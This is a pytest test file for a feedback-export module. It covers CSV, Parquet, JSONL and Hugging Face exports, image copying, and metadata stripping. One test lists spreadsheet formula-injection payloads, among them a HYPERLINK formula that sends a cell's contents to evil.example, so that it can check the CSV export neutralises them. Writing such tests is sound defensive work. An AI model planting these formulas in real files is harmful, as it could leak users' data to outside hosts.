from __future__ import annotations

import csv
import json

import datasets
import pandas as pd
import pytest
from sqlalchemy.orm import Session

from feedback_db import export as export_mod
from feedback_db import repository as repo
from feedback_db.engine import read_only_engine
from feedback_db.export import DATA_FILES, SCHEMA, export_feedback

from .factories import add_prediction, add_upload, fake_image


@pytest.fixture
def feedback(engine, store) -> dict[str, int]:
    with Session(engine) as s, s.begin():
        meme_upload = add_upload(s, store, tag="meme")
        meme = add_prediction(s, meme_upload, label="sarcastic", input_text="MONDAY AGAIN")
        caption = add_prediction(s, add_upload(s, store, tag="cat"), kind="caption", label="cat")
        again = add_prediction(s, meme_upload, label="positive", ablation="image")  # same image, second prediction
        repo.record_rating(s, request_id="r1", prediction_id=meme.id, session_id="s1", coherence=4, detail=2)
        repo.record_rating(s, request_id="r2", prediction_id=meme.id, session_id="s2", coherence=5, comment="ha")
        repo.record_correction(s, request_id="c1", prediction_id=meme.id, field="label", value="dark humor", session_id="s1")
        repo.record_correction(s, request_id="c2", prediction_id=caption.id, field="caption", value="a cat", session_id="s1")
        return {"meme": meme.id, "caption": caption.id, "again": again.id}


def _read(path, fmt) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path / DATA_FILES["csv"])
    if fmt == "parquet":
        return pd.read_parquet(path / DATA_FILES["parquet"])
    if fmt == "jsonl":
        return pd.read_json(path / DATA_FILES["jsonl"], lines=True)
    return datasets.load_from_disk(str(path)).to_pandas()


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl", "hf"])
def test_each_format_reads_back_with_images_next_to_it(engine, store, feedback, tmp_path, fmt):
    with Session(read_only_engine(engine)) as s:
        path = export_feedback(s, tmp_path / "exports", fmt, store)
    assert path.parent == tmp_path / "exports" and fmt in path.name
    df = _read(path, fmt)
    assert list(df.columns) == SCHEMA.names
    assert list(df["prediction_id"]) == [feedback["meme"], feedback["caption"], feedback["again"]]

    meme = df.iloc[0]
    assert meme["n_ratings"] == 2 and meme["mean_coherence"] == 4.5 and meme["mean_detail"] == 2.0
    assert pd.isna(meme["mean_relevance"])
    assert meme["corrected_label"] == "dark humor" and meme["output"] == "sarcastic"
    assert [r["comment"] for r in json.loads(meme["ratings_json"])] == [None, "ha"]
    assert df.iloc[1]["corrected_caption"] == "a cat" and df.iloc[1]["n_corrections"] == 1

    for row in df.itertuples():
        assert (path / row.image_path).read_bytes() == store.path(f"{row.image_sha256[:2]}/{row.image_sha256}.png").read_bytes()
    assert df.iloc[0]["image_path"] == df.iloc[2]["image_path"]
    assert sorted(p.name for p in (path / "images").iterdir()) == sorted(
        f"{sha}.png" for sha in set(df["image_sha256"])
    )
    assert (path / df.iloc[1]["image_path"]).read_bytes() == fake_image("cat")


def test_a_failed_export_leaves_nothing_behind(engine, store, feedback, tmp_path, monkeypatch):
    def crash(*args):
        raise RuntimeError("disk full")

    monkeypatch.setattr(export_mod, "_write", crash)
    with Session(engine) as s, pytest.raises(RuntimeError, match="disk full"):
        export_feedback(s, tmp_path / "exports", "parquet", store)
    assert list((tmp_path / "exports").iterdir()) == []


def test_two_exports_do_not_overwrite_each_other(engine, store, feedback, tmp_path):
    with Session(engine) as s:
        first = export_feedback(s, tmp_path, "csv", store, name="snapshot")
        with pytest.raises(OSError):
            export_feedback(s, tmp_path, "csv", store, name="snapshot")
        a, b = export_feedback(s, tmp_path, "jsonl", store), export_feedback(s, tmp_path, "jsonl", store)
    assert first.name == "snapshot" and a != b and a.is_dir() and b.is_dir()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_missing_blob_gives_an_empty_image_path(engine, store, feedback, tmp_path):
    for blob in store.root.rglob("*.png"):
        blob.unlink()
    with Session(engine) as s:
        df = pd.read_parquet(export_feedback(s, tmp_path, "parquet", store) / DATA_FILES["parquet"])
    assert df["image_path"].isna().all() and len(df) == 3


def test_unknown_format_is_refused(engine, store, tmp_path):
    with Session(engine) as s, pytest.raises(ValueError, match="'xlsx'"):
        export_feedback(s, tmp_path, "xlsx", store)


def test_empty_database_exports_an_empty_table(engine, store, tmp_path):
    with Session(engine) as s:
        assert len(_read(export_feedback(s, tmp_path, "hf", store), "hf")) == 0


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1", "＝1+1"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(engine, store, tmp_path):
    with Session(engine) as s, s.begin():
        upload = add_upload(s, store, tag="formula")
        for i, formula in enumerate(FORMULAS):
            p = add_prediction(s, upload, kind="caption", label="cat", input_text=formula)
            repo.record_correction(s, request_id=f"f{i}", prediction_id=p.id, field="caption", value=formula,
                                   session_id="s1")
            repo.record_rating(s, request_id=f"r{i}", prediction_id=p.id, session_id="s1", comment=formula)
        plain = add_prediction(s, upload, kind="caption", label="cat", input_text="a cat = a pet").id
    with Session(read_only_engine(engine)) as s:
        csv_dir = export_feedback(s, tmp_path, "csv", store)
        parquet_dir = export_feedback(s, tmp_path, "parquet", store)
    with open(csv_dir / DATA_FILES["csv"], newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))  # the csv module keeps leading tabs / CRs that pandas would drop
    stored = {"input_text": FORMULAS, "corrected_caption": [f.strip() for f in FORMULAS]}  # corrections are stripped
    for column, values in stored.items():
        cells = [row[column] for row in rows[: len(FORMULAS)]]
        assert cells == ["'" + v if v[0] in "=+-@\t\r＝" else v for v in values], cells
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in cells)
    # comments inside ratings_json start with '[' (JSON), so they are inert; the plain row is untouched
    assert rows[len(FORMULAS)]["input_text"] == "a cat = a pet" and int(rows[len(FORMULAS)]["prediction_id"]) == plain
    assert pd.read_csv(csv_dir / DATA_FILES["csv"])["latency_ms"].dtype.kind == "f"  # numbers stay numbers
    # the data formats keep the exact values
    assert list(pd.read_parquet(parquet_dir / DATA_FILES["parquet"])["input_text"][: len(FORMULAS)]) == FORMULAS


def test_images_stored_before_stripping_leave_without_metadata(engine, store, tmp_path):
    from PIL import Image

    from mmapp.imageio import strip_metadata

    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 29.0)})
    exif[0x010F] = "PhoneCo"
    buf = __import__("io").BytesIO()
    Image.new("RGB", (16, 8), (10, 200, 10)).save(buf, "JPEG", exif=exif.tobytes())
    with Session(engine) as s, s.begin():
        sha, relpath = store.put(buf.getvalue(), "jpg")
        upload = repo.record_upload(s, sha256=sha, relpath=relpath, format="jpg", width=16, height=8,
                                    n_bytes=len(buf.getvalue()))
        add_prediction(s, upload, kind="caption", label="green")
    with Session(read_only_engine(engine)) as s:
        folder = export_feedback(s, tmp_path, "jsonl", store, image_filter=strip_metadata)
    exported = (folder / "images" / f"{sha}.jpg").read_bytes()
    assert b"PhoneCo" in store.path(relpath).read_bytes() and b"PhoneCo" not in exported
    assert not Image.open(folder / "images" / f"{sha}.jpg").getexif()
